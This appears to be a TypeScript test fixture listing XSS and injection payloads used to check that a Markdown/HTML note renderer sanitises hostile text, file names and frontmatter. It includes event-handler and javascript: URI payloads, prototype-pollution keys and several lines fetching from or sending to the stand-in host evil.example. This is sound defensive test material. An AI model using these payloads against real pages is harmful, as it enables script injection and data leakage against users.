// Texts that try to become more than text: ways in which pages were broken into
// through Markdown, HTML, addresses, attributes and names. Each would set
// window.hacked, open a dialog, or ask another host.

const RUN = "window.hacked=1";

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<img/src="x"/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<marquee onstart=${RUN}>`,
  `<form action="https://evil.example"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<kbd onclick=${RUN}>key</kbd>`,
  `<kbd><img src=x onerror=${RUN}></kbd>`,
  `<br onmouseover=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><script>${RUN}</script> --> <script>${RUN}</script>`,
  `[link](javascript:${RUN})`,
  `[link](JaVaScRiPt:${RUN})`,
  `[link](  javascript:${RUN})`,
  `[link](java\nscript:${RUN})`,
  `[link](&#106;avascript:${RUN})`,
  `[link](javascript&colon;${RUN})`,
  `[link](\u0001javascript:${RUN})`,
  `[link](vbscript:msgbox)`,
  `[link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[link](file:///etc/passwd)`,
  `[link](//evil.example/x)`,
  `[link](https://evil.example/ "title\\" onmouseover=\\"${RUN}")`,
  `[a](<javascript:${RUN}>)`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onmouseover="${RUN}>`,
  `![image](javascript:${RUN})`,
  `![image](https://evil.example/pixel.png)`,
  `![image](//evil.example/pixel.png)`,
  `![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x" onerror="${RUN}](x.png)`,
  `![[https://evil.example/x.png]]`,
  `![[javascript:${RUN}.png]]`,
  `[[javascript:${RUN}]]`,
  `[[x"onclick="${RUN}|shown]]`,
  `[[note|<img src=x onerror=${RUN}>]]`,
  `[ref]\n\n[ref]: javascript:${RUN}`,
  `#tag"onclick="${RUN}`,
  `> [!note"onclick="${RUN}] title`,
  `> [!tip] <img src=x onerror=${RUN}>`,
  `- [<img src=x onerror=${RUN}>] task`,
  `- ["] task`,
  `[^<script>]\n\n[^<script>]: <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`,
  `# javascript:${RUN} {onclick=${RUN}}`,
  `| <img src=x onerror=${RUN}> | b |\n| --- | --- |\n| <script>${RUN}</script> | [x](javascript:${RUN}) |`,
  '```html"onclick="' + RUN + "\n<script>" + RUN + "</script>\n```",
  "```<img/src=x/onerror=" + RUN + ">\ncode\n```",
  "`<img src=x onerror=" + RUN + ">`",
  `$<img src=x onerror=${RUN}>$`,
  `==<img src=x onerror=${RUN}>==`,
  `%%<img src=x onerror=${RUN}>%% <img src=x onerror=${RUN}>`,
  `text ^"onclick="${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `__proto__ [[__proto__]] [[constructor]] #constructor`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u202e<script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<a href=https://evil.example ping=https://evil.example/ping>a</a>`,
];

/** Names that a disk takes. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x onerror=window.hacked=1>.md`,
  `"onmouseover="window.hacked=1.md`,
  `javascript:window.hacked=1.md`,
  `' onclick='window.hacked=1.md`,
  `__proto__.md`,
  `constructor.md`,
  `a&lt;script&gt;.md`,
  `%3Cscript%3E.md`,
  `# heading ^block [[link]].md`,
  `?q=x#y.md`,
];

export const HOSTILE_PROPERTIES = `---
"<img src=x onerror=window.hacked=1>": "<script>window.hacked=1</script>"
link: "javascript:window.hacked=1"
url: "https://evil.example/\\" onmouseover=\\"window.hacked=1"
tags: ["<script>window.hacked=1</script>", "\\"onclick=\\"window.hacked=1"]
wiki: "[[javascript:window.hacked=1|<img src=x onerror=window.hacked=1>]]"
__proto__: x
constructor: y
---
`;
